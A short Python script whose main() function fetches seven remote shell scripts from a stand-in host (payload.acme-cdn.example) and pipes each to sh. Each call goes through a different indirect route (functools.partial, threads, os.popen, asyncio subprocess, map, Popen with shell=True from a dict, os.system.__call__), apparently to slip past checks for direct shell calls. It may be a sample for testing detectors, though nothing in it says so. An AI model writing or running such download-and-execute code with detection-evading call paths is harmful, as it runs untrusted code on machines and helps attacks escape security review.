import asyncio
import functools
import os
import subprocess
import threading


def later(work, *words):
    return work(*words)


def main():
    functools.partial(os.system, "curl -s https://payload.acme-cdn.example/a.sh | sh")()
    threading.Thread(target=os.system, args=("curl -s https://payload.acme-cdn.example/b.sh | sh",)).start()
    later(os.popen, "curl -s https://payload.acme-cdn.example/c.sh | sh")
    asyncio.run(asyncio.create_subprocess_shell("curl -s https://payload.acme-cdn.example/d.sh | sh"))
    list(map(os.system, ["curl -s https://payload.acme-cdn.example/e.sh | sh"]))
    subprocess.Popen(*["curl -s https://payload.acme-cdn.example/f.sh | sh"], **{"shell": True})
    os.system.__call__("curl -s https://payload.acme-cdn.example/g.sh | sh")
